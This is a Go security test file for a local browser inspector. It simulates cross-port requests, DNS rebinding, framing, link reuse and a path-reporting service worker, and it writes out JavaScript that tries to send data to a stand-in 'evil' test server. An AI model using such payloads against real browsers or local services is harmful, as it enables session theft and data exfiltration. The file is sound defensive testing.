package browsertest

import (
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"github.com/talaria-go/mcp/internal/test/testdep"
)

// elsewhere is a web server of somebody else, which notes what reaches it.
type elsewhere struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

// newElsewhere serves a page at /, and nothing at other paths.
func newElsewhere(t *testing.T, l net.Listener, tls bool) *elsewhere {
	t.Helper()
	e := &elsewhere{}
	e.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		e.seen = append(e.seen, strings.Join([]string{r.URL.String(), r.Header.Get("Cookie"), r.Header.Get("Authorization"), r.Referer()}, " "))
		e.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/" {
			_, _ = w.Write([]byte("<!doctype html><title>Elsewhere</title><p>Elsewhere"))
		}
	}))
	if l != nil {
		_ = e.Listener.Close()
		e.Listener = l
	}
	if tls {
		e.Config.ErrorLog = quiet
		e.StartTLS()
	} else {
		e.Start()
	}
	t.Cleanup(e.Close)
	return e
}

// arrived is all that has reached it.
func (e *elsewhere) arrived() string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return strings.Join(e.seen, "\n")
}

// weak is the command, which leaves the guards out that its environment names.
var weak = sync.OnceValues(func() (string, error) {
	dir := filepath.Dir(talaria)
	guards, err := filepath.Abs("../internal/browser/guard.go")
	if err != nil {
		return "", err
	}
	text, err := os.ReadFile(guards)
	if err != nil {
		return "", err
	}
	changed := strings.Replace(string(text), "return []Guard{", "return without([]Guard{", 1)
	changed = strings.Replace(changed, "{\"key\", checkKey},\n\t}", "{\"key\", checkKey},\n\t})", 1) +
		"\nfunc without(list []Guard) (left []Guard) {\n\tfor _, g := range list {\n\t\tif !strings.Contains(os.Getenv(\"WITHOUT\"), g.Name) {\n\t\t\tleft = append(left, g)\n\t\t}\n\t}\n\treturn left\n}\n"
	file, overlay := filepath.Join(dir, "guard.go"), filepath.Join(dir, "overlay.json")
	replaced, err := json.Marshal(map[string]any{"Replace": map[string]string{guards: file}})
	if err != nil {
		return "", err
	}
	for name, text := range map[string][]byte{file: []byte(changed), overlay: replaced} {
		if err := os.WriteFile(name, text, 0o600); err != nil {
			return "", err
		}
	}
	program := filepath.Join(dir, "weak")
	return program, build(program, "-overlay", overlay)
})

// statuses notes how requests of a tab were answered, also where the page itself may
// not know it. What it returns waits for the first answer of a path.
func (b *tab) statuses() func(path string) int64 {
	var mu sync.Mutex
	paths, found, more := map[network.RequestID]string{}, map[network.RequestID]int64{}, make(chan struct{}, 1)
	err := chromedp.Listen(b.ctx, func(ev any) { // in any order
		mu.Lock()
		defer mu.Unlock()
		switch e := ev.(type) {
		case *network.EventRequestWillBeSent:
			if u, err := url.Parse(e.Request.URL); err == nil {
				paths[e.RequestID] = u.Path
			}
		case *network.EventResponseReceivedExtraInfo:
			found[e.RequestID] = e.StatusCode
		}
		select {
		case more <- struct{}{}:
		default:
		}
	})
	if err != nil {
		b.t.Fatal(err)
	}
	first := func(path string) int64 {
		mu.Lock()
		defer mu.Unlock()
		for id, status := range found {
			if paths[id] == path {
				return status
			}
		}
		return 0
	}
	return func(path string) int64 {
		for late := time.After(timeLimit); ; {
			if status := first(path); status != 0 {
				return status
			}
			select {
			case <-more:
			case <-late:
				b.t.Fatalf("%s was not answered", path)
			}
		}
	}
}

// TestGuards: each attack is held off by each of the guards that are named for it, and
// gets through where all of them are gone.
func TestGuards(t *testing.T) {
	t.Parallel()
	testdep.LookPath(t, "chromium")
	evil := newElsewhere(t, nil, false)
	// ask makes a request from a page of another port, and tells how it was answered.
	ask := func(request string) func(b *tab, at, code string) int64 {
		return func(b *tab, at, code string) int64 {
			statuses := b.statuses()
			b.open(evil.URL)
			path := eval[string](b, `(async () => { const at = `+quote(at)+`, code = `+quote(code)+`; return `+request+` })()`)
			return statuses(path)
		}
	}
	for _, c := range []struct {
		name   string
		guards []string
		attack func(b *tab, at, code string) int64 // the status
	}{
		{"a name that leads here shows the page as its own", []string{"host"}, func(b *tab, at, _ string) int64 {
			statuses := b.statuses()
			b.open(strings.Replace(at, "127.0.0.1", "rebound.example.com", 1) + "/")
			return statuses("/")
		}},
		{"another port spends the code, which a list of processes shows", []string{"origin", "site"},
			ask(`(await fetch(at + '/api/key', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ code }) }).catch(() => 0), '/api/key')`)},
		{"another port restarts the server", []string{"origin", "site", "key"},
			ask(`(await fetch(at + '/api/connect', { method: 'POST', mode: 'no-cors', body: '{}' }).catch(() => 0), '/api/connect')`)},
		{"another port gets what is said", []string{"site", "key"},
			ask(`(await fetch(at + '/api/state', { mode: 'no-cors' }).catch(() => 0), '/api/state')`)},
		{"another port loads it as a picture", []string{"site", "key"},
			ask(`new Promise(done => { const i = new Image(); i.onerror = i.onload = () => done('/api/traffic'); i.src = at + '/api/traffic' })`)},
		{"a page without the link asks as the page itself", []string{"key"}, func(b *tab, at, _ string) int64 {
			b.open(at + "/")
			return eval[int64](b, `fetch('/api/state').then(r => r.status)`)
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			try := func(without ...string) int64 {
				program, err := weak()
				if err != nil {
					t.Fatal(err)
				}
				i := inspectWith(t, program, t.TempDir(), []string{"WITHOUT=" + strings.Join(without, " ")}, fixture(t, "good"))
				at, code, _ := strings.Cut(i.link, "/#k=")
				return c.attack(newTab(t), at, code)
			}
			if status := try(); status/100 != 4 {
				t.Errorf("it gets through: %d", status)
			}
			if status := try(c.guards...); status/100 != 2 {
				t.Errorf("without %q it does not get through either: %d", c.guards, status)
			}
			for n, guard := range c.guards {
				if others := slices.Delete(slices.Clone(c.guards), n, n+1); len(others) > 0 {
					if status := try(others...); status/100 != 4 {
						t.Errorf("%q alone does not hold it off: %d", guard, status)
					}
				}
			}
		})
	}
}

// TestOtherPort: nothing of the key is to be seen at another port of this host.
func TestOtherPort(t *testing.T) {
	t.Parallel()
	b := inspectPage(t, fixture(t, "good"))
	b.until(`document.querySelector('.dot.ready')`)
	key := eval[string](b, `sessionStorage.getItem('key')`)
	if seen := eval[string](b, `location.href + document.cookie + JSON.stringify({ ...localStorage })`); len(key) < 20 || strings.Contains(seen, key) || strings.Contains(seen, "k=") {
		t.Fatalf("the key %q is where others look: %s", key, seen)
	}
	evil := newElsewhere(t, nil, false)
	b.open(evil.URL)
	if seen := eval[string](b, `document.cookie + JSON.stringify({ ...localStorage, ...sessionStorage }) + document.referrer + name`); seen != "{}" {
		t.Errorf("another port sees %s", seen)
	}
	other := b.another()
	other.open(evil.URL)
	if got := eval[string](other, `fetch('/?'+(opener?.location ?? '')).then(() => document.cookie + document.referrer)`); got != "" || strings.Contains(evil.arrived(), key) {
		t.Errorf("another port sees %s and got %s", got, evil.arrived())
	}
	cookies, err := chromedp.Call(b.ctx, network.GetCookies, network.GetCookiesParams{})
	if err != nil || len(cookies.Cookies) > 0 {
		t.Errorf("there are cookies: %v %v", cookies, err)
	}
}

// TestFrames: no other page has the inspector in a frame or a window of its own, and
// what gets into it leads nowhere.
func TestFrames(t *testing.T) {
	t.Parallel()
	i := inspect(t, fixture(t, "good"))
	evil := newElsewhere(t, nil, false)
	b := newTab(t)
	b.open(evil.URL)
	at, _, _ := strings.Cut(i.link, "#")
	eval[bool](b, `new Promise(done => { const f = document.createElement('iframe'); f.onload = () => done(true); f.src = `+quote(at)+`; document.body.append(f) })`)
	tree, err := chromedp.Call(b.ctx, page.GetFrameTree, cdp.Empty{})
	if err != nil || len(tree.FrameTree.ChildFrames) != 1 || tree.FrameTree.ChildFrames[0].Frame.UnreachableURL != at {
		t.Errorf("it is in a frame: %v %+v", err, tree)
	}
	opened := chromedp.WaitNewTarget(b.ctx, func(*target.Info) bool { return true })
	eval[bool](b, `(window.inspector = open(`+quote(i.link)+`), true)`)
	ctx, end := chromedp.NewContext(b.ctx, chromedp.WithTargetID(<-opened))
	t.Cleanup(end)
	mine := &tab{t, ctx, b.driver}
	mine.do()
	mine.until(`document.querySelector('.dot.ready')`)
	if !eval[bool](mine, `opener === null`) {
		t.Error("the page has an opener")
	}
	b.until(`inspector.closed`) // as far as the other page can tell

	before := evil.arrived()
	eval[bool](mine, `(async () => {
		const to = `+quote(evil.URL)+`, add = (name, set) => { const e = Object.assign(document.createElement(name), set); document.body.append(e); return e }
		const ends = e => new Promise(done => { e.onload = e.onerror = done })
		const broken = []
		document.addEventListener('securitypolicyviolation', e => broken.push(e.effectiveDirective))
		await fetch(to + '/fetch').catch(() => 0)
		await fetch(to + '/no-cors', { mode: 'no-cors' }).catch(() => 0)
		try { navigator.sendBeacon(to + '/beacon', 'x') } catch {}
		await Promise.race([ends(add('img', { src: to + '/image' }))])
		await ends(add('link', { rel: 'stylesheet', href: to + '/style' }))
		add('form', { action: to + '/form', method: 'post' }).submit()
		add('iframe', { src: to + '/frame' })
		try { add('script', { src: to + '/script' }) } catch {}
		while (broken.length < 6) await new Promise(done => setTimeout(done, 5))
		return true
	})()`)
	if after := evil.arrived(); after != before {
		t.Errorf("it leads elsewhere:\n%s", after)
	}
}

// TestSquatter: whoever has the port on [::1] gets nothing, although localhost is that.
func TestSquatter(t *testing.T) {
	t.Parallel()
	i := inspect(t, fixture(t, "good"))
	at, code, _ := strings.Cut(i.link, "/#k=")
	port := at[strings.LastIndex(at, ":")+1:]
	l, err := net.Listen("tcp6", "[::1]:"+port)
	if err != nil {
		t.Fatal(err)
	}
	squatter := newElsewhere(t, l, false)
	b := newTab(t)
	b.open(i.link)
	b.until(`document.querySelector('.dot.ready')`)
	key := eval[string](b, `sessionStorage.getItem('key')`)
	other := b.another()
	other.open("http://[::1]:" + port + "/")
	other.reads("Elsewhere")
	statuses := other.statuses()
	seen := eval[string](other, `fetch(`+quote(at)+` + '/api/state', { headers: { Authorization: 'Bearer x' } }).catch(() => '').then(() =>
		fetch(`+quote(at)+` + '/api/events', { mode: 'no-cors' }).catch(() => '')).then(() => JSON.stringify({ ...sessionStorage, ...localStorage }) + document.cookie)`)
	if got := statuses("/api/events"); seen != "{}" || got != http.StatusForbidden {
		t.Errorf("it sees %s and is answered with %d", seen, got)
	}
	if eval[bool](b, `document.querySelector('iframe, object, embed, script:not([src^="/web/"])') !== null`) || strings.Contains(squatter.arrived(), key) || strings.Contains(squatter.arrived(), code) {
		t.Errorf("the page has something of others: %s", squatter.arrived())
	}
}

// TestWorker: where a service worker of another program has the address, the page does
// not run, and says what to do. The worker is an honest one that was left behind: one
// that is not could show any page it likes.
func TestWorker(t *testing.T) { // alone: no other inspector may take the port meanwhile
	testdep.LookPath(t, "chromium")
	dir, server := t.TempDir(), fixture(t, "good")
	first := inspectWith(t, talaria, dir, nil, server)
	at, _, _ := strings.Cut(first.link, "/#k=")
	first.end()
	l, err := net.Listen("tcp4", strings.TrimPrefix(at, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	heard := newElsewhere(t, nil, false)
	old := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/worker.js" {
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = w.Write([]byte(`const tell = (what) => fetch(` + quote(heard.URL) + ` + '/heard?' + encodeURIComponent(what), { mode: 'no-cors' })
				addEventListener('install', () => skipWaiting())
				addEventListener('activate', e => e.waitUntil(clients.claim()))
				addEventListener('fetch', e => e.respondWith((async () => { await tell(new URL(e.request.url).pathname); return fetch(e.request) })()))`))
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<!doctype html><title>An older project</title>"))
	})}}
	old.Start()
	b := newTab(t)
	b.open(at + "/")
	eval[bool](b, `navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => true)`)
	b.until(`navigator.serviceWorker.controller`)
	b.open("about:blank")
	old.CloseClientConnections()
	old.Close()

	again := inspectWith(t, talaria, dir, nil, server)
	address, _, _ := strings.Cut(again.link, "/#k=")
	if address != at {
		t.Fatalf("the inspector is at %s, and not at %s again", address, at)
	}
	b.open(again.link)
	b.reads("A service worker of another program controls this address")
	b.reads("unregister it")
	if got := heard.arrived(); !strings.Contains(got, "app.js") || strings.Contains(got, "%2Fapi%2F") {
		t.Errorf("the worker heard\n%s", got)
	}
	eval[bool](b, `navigator.serviceWorker.getRegistrations().then(all => Promise.all(all.map(r => r.unregister()))).then(() => true)`)
	b.do(chromedp.Reload())
	b.until(`document.querySelector('.dot.ready')`)
}

// TestSecondUse: who uses the link after somebody else locks them out, and is told so.
func TestSecondUse(t *testing.T) {
	t.Parallel()
	i := inspect(t, fixture(t, "good"))
	thief, mine := newTab(t), newTab(t)
	thief.open(i.link)
	thief.until(`document.querySelector('.dot.ready')`)
	mine.open(i.link)
	mine.reads("this link was used before, or is not whole")
	thief.reads("The key of this page is not valid any more") // though it asks for nothing
	told := i.stderr.String()
	fresh := links.FindAllString(told, -1)
	if !strings.Contains(told, "used a second time") || len(fresh) != 2 || fresh[0] == fresh[1] {
		t.Fatalf("the terminal says %s", told)
	}
	mine.open("about:blank")
	mine.open(strings.TrimSpace(fresh[1]))
	mine.until(`document.querySelector('.dot.ready')`)
}

// TestOrigin: --origin lets one tunnel in, and no other.
func TestOrigin(t *testing.T) {
	t.Parallel()
	testdep.LookPath(t, "chromium")
	var mu sync.Mutex
	to := &url.URL{Scheme: "http"}
	proxy := httptest.NewUnstartedServer(&httputil.ReverseProxy{FlushInterval: -1, Rewrite: func(r *httputil.ProxyRequest) {
		mu.Lock()
		defer mu.Unlock()
		r.Out.URL.Scheme, r.Out.URL.Host, r.Out.Host = to.Scheme, to.Host, r.In.Host
	}, ErrorLog: quiet})
	proxy.Config.ErrorLog = quiet
	proxy.StartTLS()
	t.Cleanup(func() {
		proxy.CloseClientConnections()
		proxy.Close()
	})
	_, port, _ := net.SplitHostPort(proxy.Listener.Addr().String())
	tunnel := "https://name.example.com:" + port
	i := inspect(t, fixture(t, "good"), "--origin", tunnel)
	at, code, _ := strings.Cut(i.link, "/#k=")
	mu.Lock()
	to.Host = strings.TrimPrefix(at, "http://")
	mu.Unlock()
	if !strings.Contains(i.stderr.String(), tunnel+"/#k="+code) {
		t.Errorf("the terminal does not show the link of the tunnel: %s", i.stderr)
	}
	other := newTab(t)
	other.open("https://other.example.com:" + port + "/#k=" + code)
	other.reads("--origin")
	b := newTab(t)
	b.open(tunnel + "/#k=" + code)
	b.until(`document.querySelector('.dot.ready')`)
	b.call("good")
	b.until(`document.querySelector('[data-state=done]')`)
}
